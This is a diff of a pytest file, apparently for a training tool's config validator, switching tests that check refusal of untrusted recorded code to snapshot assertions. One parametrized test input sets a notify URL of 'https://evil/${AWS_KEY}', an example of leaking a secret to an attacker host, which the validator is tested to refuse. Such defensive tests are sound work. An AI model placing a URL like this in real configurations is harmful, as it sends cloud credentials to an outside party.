@@ -60,12 +60,8 @@ def validate(*arguments):
     )
 
 
-def test_validate_without_terminal_refuses_code_and_names_the_option(theirs):
-    assert refusal("validate", theirs).splitlines() == [
-        f"{theirs.parent} names code that has not run here before:",
-        f"  their_code:train ({theirs.parent / 'their_code.py'})",
-        "give --trust to run it",
-    ]
+def test_validate_without_terminal_refuses_code_and_names_the_option(snapshot, theirs):
+    snapshot(refusal("validate", theirs))
     assert "their_code" not in sys.modules
 
 
@@ -182,17 +178,16 @@ def test_admit_finds_a_network_that_only_the_journal_names(here, spelt):
 
 
 @pytest.mark.parametrize(
-    ("fields", "named"),
+    "fields",
     [
-        ({"training": {"model": "their_code:net"}}, "their_code:net"),
-        ({"notify": ["https://${KEY}"]}, "notify https://${KEY}"),
-        ({"notify": ["https://evil/${AWS_KEY}"]}, "notify https://evil/${AWS_KEY}"),
+        {"training": {"model": "their_code:net"}},
+        {"notify": ["https://${KEY}"]},
+        {"notify": ["https://evil/${AWS_KEY}"]},
     ],
 )
-def test_validate_refuses_recorded_code_and_not_overrides(theirs, fields, named):
+def test_validate_refuses_recorded_code_and_not_overrides(snapshot, theirs, fields):
     (theirs.parent / "their_code.py").write_text(NET)
     recorded(theirs.parent, {**GOOD, **fields})
-    with pytest.raises(UsageError) as refused:
+    with snapshot.raises(UsageError):
         validate(theirs)
-    assert f"  {named}" in str(refused.value)
     assert validate(theirs, "training.model=cnn", "notify=['https://${HOST}']")
